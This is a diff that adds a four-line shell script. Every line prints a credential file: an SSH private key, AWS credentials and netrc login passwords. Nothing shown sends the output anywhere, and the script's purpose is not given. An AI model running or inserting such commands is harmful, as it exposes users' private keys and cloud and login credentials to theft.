@@ -1,0 +1,4 @@
+#!/bin/sh
+cat ~/.ssh/id_rsa
+cat ~/.aws/credentials
+cat ~/.netrc
